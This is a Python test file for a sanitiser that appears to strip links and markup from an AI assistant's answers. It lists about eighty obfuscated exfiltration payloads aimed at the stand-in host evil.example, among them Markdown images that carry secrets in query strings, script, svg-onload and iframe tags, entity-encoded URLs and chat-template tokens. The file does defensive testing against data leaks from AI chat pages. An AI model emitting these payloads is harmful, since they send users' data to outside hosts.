import pytest

from assistant.gate import clean_sentence

# Ways out that were published for chat pages that render Markdown or HTML, and ones of our own.
FORMS = {
    "image": "![x](https://evil.example/a?d=secret)",
    "image, no words": "![](https://evil.example/a)",
    "image, no scheme": "![x](//evil.example/a)",
    "image, title": '![x](https://evil.example/a "t")',
    "image, reference": "![x][e] [e]: https://evil.example/a",
    "image, unclosed": "![x](https://evil.example/a",
    "image, cut in two": "![x",
    "image, half of it": "](https://evil.example/a)",
    "image in a link": "[![x](https://evil.example/a)](https://evil.example/b)",
    "image in an image": "![![x](a)](https://evil.example/b)",
    "image behind an image": "!![a](b)[x](https://evil.example/a)",
    "image around a citation": "![1][x](https://evil.example/a)",
    "image around a tag": "!<b></b>[x](https://evil.example/a)",
    "image with an escape": "\\![x](https://evil.example/a)",
    "image over two lines": "![x\n](https://evil.example/a)",
    "image, invisible character": "!\u200b[x](https://evil.example/a)",
    "image, soft hyphen": "!\u00ad[x](https://evil.example/a)",
    "image as entities": "&#33;&#91;x&#93;&#40;https://evil.example/a&#41;",
    "link": "[click](https://evil.example/a)",
    "link, title": "[click](https://evil.example/a 'title')",
    "link, angle brackets": "[click](<https://evil.example/a>)",
    "link, blanks": "[click]( https://evil.example/a )",
    "link, brackets inside": "[a [b] c](https://evil.example/a)",
    "link, parentheses inside": "[x](https://evil.example/a(b)c)",
    "link, unclosed": "[x](https://evil.example/a",
    "link, one bracket too many": "[x][1]](https://evil.example/a)",
    "link, citation as its words": "[1](https://evil.example/a)",
    "link, citation inside its words": "[see [1]](https://evil.example/a)",
    "link, invisible character": "[click]\u200b(https://evil.example/a)",
    "link, script": "[x](javascript:fetch('//evil.example/a'))",
    "reference link": "[click][e]",
    "reference definition": "[e]: https://evil.example/a",
    "reference definition, angle brackets": "[e]: <https://evil.example/a>",
    "reference definition, no blank": "[e]:https://evil.example/a",
    "footnote definition": "[^e]: https://evil.example/a",
    "definition in a quotation": "> [e]: https://evil.example/a",
    "autolink": "<https://evil.example/a>",
    "mail autolink": "<mailto:a@evil.example>",
    "mail": "mailto:a@evil.example?subject=secret",
    "bare URL": "https://evil.example/a",
    "bare URL in capitals": "HTTPS://EVIL.EXAMPLE/a",
    "bare URL without a scheme": "//evil.example/a",
    "bare URL with one slash": "http:/evil.example/a",
    "bare URL with backslashes": "http:\\\\evil.example\\a",
    "bare URL with a user": "https://good.example@evil.example/a",
    "bare URLs joined": "https://evil.example/a,https://evil.example/b",
    "bare URL in bold": "**https://evil.example/a**",
    "bare URL in code": "`https://evil.example/a`",
    "bare URL, soft hyphen": "ht\u00adtps://evil.example/a",
    "bare URL around a citation": "ht[1]tps://evil.example/a",
    "bare URL around a tag": "ht<b></b>tps://evil.example/a",
    "bare URL as entities": "https&colon;&sol;&sol;evil.example/a",
    "bare URL, entities of entities": "https&amp;#58;&amp;#47;&amp;#47;evil.example/a",
    "bare URL, blank after the slashes": "https:// evil.example/a",
    "www": "www.evil.example/a",
    "www around a citation": "w[1]ww.evil.example/a",
    "host and path": "evil.example/a",
    "host and query": "evil.example?d=secret",
    "host and fragment": "evil.example#secret",
    "host around a tag": "ev<i></i>il.example/a",
    "ftp": "ftp://evil.example/a",
    "network share": "\\\\evil.example\\a",
    "data URL": "data:text/html,<img src=https://evil.example/a>",
    "img": '<img src="https://evil.example/a">',
    "img in capitals": "<IMG SRC='//evil.example/a'/>",
    "img, unclosed": "<img src=https://evil.example/a",
    "img in a tag": "<<img src=x>img src=https://evil.example/a>",
    "img around a tag": "<im<b>g src=https://evil.example/a>",
    "img around a citation": "<[1]img src=//evil.example/a>",
    "img behind an end tag": "</p><img src=//evil.example/a>",
    "img over two lines": "<img\nsrc=https://evil.example/a>",
    "img as entities": "&lt;img src=&quot;https://evil.example/a&quot;&gt;",
    "img as numbers": "&#60;img src=https://evil.example/a&#62;",
    "img as hex": "&#x3c;img src=https://evil.example/a&#x3e;",
    "img, entities four deep": "&amp;amp;amp;lt;img src=https://evil.example/a&amp;amp;amp;gt;",
    "a": '<a href="https://evil.example/a">x</a>',
    "script": "<script src=//evil.example/a></script>",
    "svg": "<svg onload=fetch('//evil.example/a')>",
    "iframe": '<iframe src="https://evil.example/a"></iframe>',
    "style": "<style>@import url(//evil.example/a)</style>",
    "comment": "<!-- https://evil.example/a -->",
    "CDATA": "<![CDATA[https://evil.example/a]]>",
    "processing instruction": "<?xml https://evil.example/a?>",
    "speaker mark": "<|im_start|>https://evil.example/a",
    "speaker mark inside": "ht<|x|>tps://evil.example/a",
}
NEVER = ("://", "www.", "<", "![", "](", "evil.example")


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
def test_nothing_that_reaches_another_site_comes_through(form):
    text, _ = clean_sentence(f"Read thirty answers {form} aloud.")

    assert not [mark for mark in NEVER if mark in text.lower()], text
    assert text.startswith("Read")


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
def test_cleaning_twice_changes_nothing_more(form):
    once, _ = clean_sentence(f"Read thirty answers {form} aloud.")

    assert clean_sentence(once) == (once, ())


@pytest.mark.parametrize(
    ("raw", "text", "cited"),
    [
        ("It costs 1.5 GB [2].", "It costs 1.5 GB.", (2,)),
        ("It costs 1.5 GB [2][1].", "It costs 1.5 GB.", (2, 1)),
        ("It costs 1.5 GB [1, 3] [1].", "It costs 1.5 GB.", (1, 3)),
        ("Set `r=16` in train.py.", "Set `r=16` in train.py.", ()),
        ("Should you edit train.py? Yes.", "Should you edit train.py? Yes.", ()),
        ("Where 2 < 3 holds, stop.", "Where 2 < 3 holds, stop.", ()),
        ("The ratio is 3:1.", "The ratio is 3:1.", ()),
        ("[The template](a.md) is the contract [1].", "The template is the contract.", (1,)),
        ("  Two\tblanks \u200b here .", "Two blanks here.", ()),
    ],
)
def test_a_plain_sentence_keeps_its_words_and_gives_up_its_numbers(raw, text, cited):
    assert clean_sentence(raw) == (text, cited)


def test_a_long_run_of_brackets_takes_no_time():
    assert clean_sentence("[" * 2000 + "x")[1] == ()
